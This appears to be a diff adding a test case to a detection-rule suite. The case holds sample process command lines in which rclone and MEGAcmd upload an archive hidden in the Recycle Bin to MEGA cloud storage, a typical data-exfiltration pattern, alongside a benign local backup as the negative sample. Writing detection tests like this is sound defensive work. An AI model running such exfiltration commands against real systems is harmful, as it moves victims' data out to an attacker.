@@ -418,6 +418,19 @@ export const CASES: Readonly<Record<string, RuleCase>> = {
       }),
     ],
   },
+  dwell_rclone_mega_upload: {
+    positive: [
+      proc({
+        image: 'C:\\ProgramData\\rc\\rclone.exe',
+        commandLine: 'rclone.exe copy C:\\$Recycle.Bin\\ss.rar mega:bk --config C:\\ProgramData\\rc\\rc.conf',
+      }),
+      proc({
+        image: 'C:\\Users\\x\\AppData\\Local\\MEGAcmd\\mega-put.exe',
+        commandLine: 'mega-put.exe ss.rar /bk',
+      }),
+    ],
+    negative: [proc({ image: 'C:\\Tools\\rclone.exe', commandLine: 'rclone.exe copy D:\\Data E:\\Backup' })],
+  },
   dwell_rundll32_ssh_egress: {
     positive: [
       ev(
